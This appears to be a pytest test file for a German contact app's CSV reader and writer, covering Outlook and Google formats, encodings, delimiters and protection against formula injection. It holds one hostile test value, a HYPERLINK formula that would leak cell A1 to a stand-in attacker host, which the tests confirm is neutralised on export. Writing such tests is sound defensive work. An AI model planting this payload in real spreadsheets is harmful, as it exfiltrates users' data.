"""CSV reading (presets, encodings, delimiters) and writing (formula injection), no database."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kundenakte.core.exchange import ContactRecord, ExchangeError, Point, read_csv, read_records
from kundenakte.core.exchange.csvio import KUNDENAKTE_HEADERS, neutralise, restore, sniff_delimiter, write_csv

DATA = Path(__file__).parent / "data"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def _export(records: list[ContactRecord], delimiter: str = ";") -> bytes:
    out = io.StringIO(newline="")
    write_csv(records, out, delimiter=delimiter)
    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")


def test_outlook_german_cp1252_semicolon() -> None:
    data = (DATA / "outlook_de.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    records = read_csv(data)
    assert [r.last_name for r in records] == ["Weiß", "Groß", "Öztürk", "", "Schäfer"]
    weiss = records[0]
    assert (weiss.gender, weiss.title, weiss.first_name) == ("male", "Dr.", "Jürgen")  # "Herr Dr."
    assert weiss.company_name == "Müller & Söhne GmbH" and weiss.position == "Einkaufsleiter"
    assert (weiss.street, weiss.postal_code, weiss.city) == ("Hauptstraße 5", "80331", "München")
    assert weiss.company_phone == "+49 89 1000" and [w.value for w in weiss.websites] == ["www.mueller-soehne.de"]
    assert weiss.department == "Einkauf" and weiss.notes == "Kennt uns\nseit 2019"
    assert weiss.not_kept == ["Region geschäftlich"]  # "Bayern": Kundenakte has no region
    assert records[1].phone == "0170 5555"  # mobile when there is no business phone
    assert records[1].gender == "female"
    assert records[4].email == "t.schaefer@privat.example"  # second address when the first is empty
    assert records[4].source == "Zeile 7"


def test_outlook_english_utf8_bom_comma_quoted_newline() -> None:
    records = read_records((DATA / "outlook_en_bom.csv").read_bytes(), fmt="csv")
    assert [r.last_name for r in records] == ["Köhler", "Smith"]  # the BOM did not spoil the first header
    assert records[0].first_name == "Marie Luise"
    assert records[0].company_name == "Straßenbau Nord GmbH"
    assert records[1].gender == "male" and records[1].title == ""  # "Mr." is a salutation
    assert records[1].source == "Zeile 4"  # the record before spans two lines


def test_google_current_format() -> None:
    records = read_csv((DATA / "google.csv").read_bytes())
    assert [r.last_name for r in records] == ["Weißenböck", "Groß", "Yılmaz"]
    assert records[0].email == "sabine@baeckerei-suess.de"  # first of " ::: "-joined values
    assert records[0].phone == "+49 30 123"
    assert records[0].title == "Dr." and records[0].position == "Meisterin"
    assert (records[0].street, records[0].postal_code, records[0].city) == ("Brotgasse 7", "10115", "Berlin")


def test_google_older_format_by_mapping_name() -> None:
    text = "Name,Given Name,Family Name,Gender,Organization 1 - Name,E-mail 1 - Value\nEva Groß,Eva,Groß,female,Firma X,eva@x.de\n"
    (rec,) = read_csv(text.encode(), mapping="google")
    assert (rec.first_name, rec.last_name, rec.gender, rec.company_name, rec.email) == ("Eva", "Groß", "female", "Firma X", "eva@x.de")
    assert read_csv(text.encode())[0].last_name == "Groß"  # also detected


def test_unknown_headers_are_refused() -> None:
    with pytest.raises(ExchangeError, match="nicht erkannt"):
        read_csv(b"foo;bar\n1;2\n")


def test_delimiter_sniffing() -> None:
    assert sniff_delimiter('"a;b",c,d\n') == ","
    assert sniff_delimiter("a;b;c\n") == ";"
    assert sniff_delimiter("a\tb\tc\n") == "\t"


def test_neutralise_and_restore() -> None:
    for dangerous in ("=1+1", "-5", "-2+3", "+1+1", "+49 30 1=2", "+A1", "@SUM(A1)", "\tx", "\rx", INJECTION):
        assert neutralise(dangerous) == "'" + dangerous
        assert restore(neutralise(dangerous)) == dangerous
    # A plausible phone number calls no function and is written as it is: Outlook and Google would
    # keep a leading apostrophe in the number.
    for harmless in ("Müller", "'quoted", "", "a=b", "'", "+49 30 1", "+49 (0)89 123-45", "+1/555.123"):
        assert neutralise(harmless) == harmless
        assert restore(harmless) == harmless
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"


def _sample() -> list[ContactRecord]:
    return [
        ContactRecord(last_name=INJECTION, first_name="@Eva", title="Dr.", gender="female", language="de",
                      salutation_override="-Liebe Eva-", company_name="+Plus GmbH", position="=Chef",
                      email="eva@example.org", phone="+49 30 123", use_company_address=False,
                      street="Zeile 1\nZeile 2; mit \"Anführung\"", postal_code="12345", city="'=apostroph",
                      country="Deutschland", account_manager="owner", company_street="Weg 1",
                      company_postal_code="54321", company_city="Köln", company_country="",
                      company_phone="-0", company_email="info@plus.example", company_web="https://plus.example",
                      company_account_manager="admin"),
        ContactRecord(last_name="Groß", first_name="", gender="unknown", language="en", use_company_address=True),
    ]


@pytest.mark.parametrize("delimiter", [";", ","])
def test_own_format_round_trip_and_no_live_formula(delimiter: str) -> None:
    data = _export(_sample(), delimiter)
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows[0] == list(KUNDENAKTE_HEADERS.values())
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "+49 30 123", cell
    assert "'" + INJECTION in rows[1]
    back = read_csv(data)
    assert back == _sample()


_cell = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20).map(str.strip)


@settings(max_examples=200, deadline=None)
@given(last=_cell.filter(bool), first=_cell, city=_cell, street=_cell, phone=_cell)
def test_own_format_round_trip_property(last: str, first: str, city: str, street: str, phone: str) -> None:
    rec = ContactRecord(last_name=last, first_name=first, city=city, street=street, phone=phone, gender="male",
                        language="de", use_company_address=True)
    assert read_csv(_export([rec])) == [rec]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_google_csv_in_utf16_with_and_without_bom(encoding: str) -> None:
    text = (DATA / "google.csv").read_text("utf-8")
    records = read_csv(text.encode(encoding))  # "utf-16" writes a BOM, the others none
    assert records == read_csv((DATA / "google.csv").read_bytes())
    assert [r.last_name for r in records] == ["Weißenböck", "Groß", "Yılmaz"]


def test_every_list_of_an_outlook_row_and_what_is_reported() -> None:
    header = '"First Name","Last Name","E-mail Address","E-mail Type","E-mail 2 Address","E-mail 2 Type",' \
             '"Business Phone","Mobile Phone","Primary Phone","Home Street","Home City","Business Street",' \
             '"Business State","Categories","Priority","Private","Birthday","Anniversary"'
    row = '"Eva","Groß","/o=ExchangeLabs/ou=Exchange/cn=eva","EX","eva@privat.example","SMTP","+49 30 1",' \
          '"+49 170 2","+49 170 2","Gartenweg 1","Berlin","Am Markt 2","Berlin","Kunden;VIP","Normal","False",' \
          '"3/22/1980","0/0/00"'
    (rec,) = read_csv(f"{header}\r\n{row}\r\n".encode("cp1252"))
    assert [(p.value, p.kind) for p in rec.emails] == [("eva@privat.example", "home")]
    assert [(p.value, p.kind, p.preferred) for p in rec.phones] == [("+49 30 1", "work", False),
                                                                   ("+49 170 2", "mobile", True)]
    assert rec.phone == "+49 170 2"  # Outlook's "Primary Phone" marks the preferred number
    assert [(a.kind, a.street) for a in rec.addresses] == [("work", "Am Markt 2"), ("home", "Gartenweg 1")]
    assert rec.birthday is not None and rec.birthday.isoformat() == "1980-03-22"
    # the Exchange path is no e-mail address; the region and the categories have no field; defaults are no data
    assert rec.not_kept == ["E-mail Address", "Business State", "Categories"]


def test_outlook_layout_says_what_it_cannot_hold() -> None:
    rec = ContactRecord(last_name="Yılmaz", first_name="Fatma", nickname="Fati", source="Kontakt #7",
                        emails=[Point(f"f{i}@example.de", "work", i == 0) for i in range(4)])
    out = io.StringIO(newline="")
    lost: dict[str, list[str]] = {}
    write_csv([rec], out, layout="outlook-de", lost=lost)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[1][3] == "Y?lmaz"  # what cp1252 can hold, as Outlook itself would write it
    assert lost == {"Kontakt #7": ["E-Mail f3@example.de", "Spitzname",
                                   "Zeichen außerhalb von Windows-1252 (als „?“ geschrieben)"]}
